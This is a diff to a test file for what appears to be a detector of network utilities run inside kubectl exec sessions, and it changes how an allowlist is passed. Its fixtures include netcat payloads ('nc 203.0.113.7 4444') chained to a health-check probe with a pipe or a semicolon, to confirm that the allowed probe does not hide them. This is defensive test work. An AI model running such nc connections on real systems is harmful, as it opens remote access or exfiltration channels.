@@ -412,7 +412,7 @@ describe("an entry speaks for one command segment", () => {
     ["in a pipeline", `${probe} | nc 203.0.113.7 4444`],
     ["before the probe", `nc 203.0.113.7 4444; ${probe}`],
   ])("a health check %s never silences the nc of the same kubectl exec", (_where, payload) => {
-    const verdict = evaluate(session("sh", "-c", payload), allowed);
+    const verdict = evaluate(session("sh", "-c", payload), { isAllowed: allowed });
     expect(verdict.kind).toBe("finding");
     if (verdict.kind !== "finding") return;
     expect(verdict.finding.utility.name).toBe("nc");
@@ -421,7 +421,7 @@ describe("an entry speaks for one command segment", () => {
   });
 
   it("still suppresses a session that only runs the health check", () => {
-    const verdict = evaluate(session("sh", "-c", `${probe}; ${probe}`), allowed);
+    const verdict = evaluate(session("sh", "-c", `${probe}; ${probe}`), { isAllowed: allowed });
     expect(verdict.kind === "finding" && allowlist.match(verdict.finding)).toBe(0);
   });
 
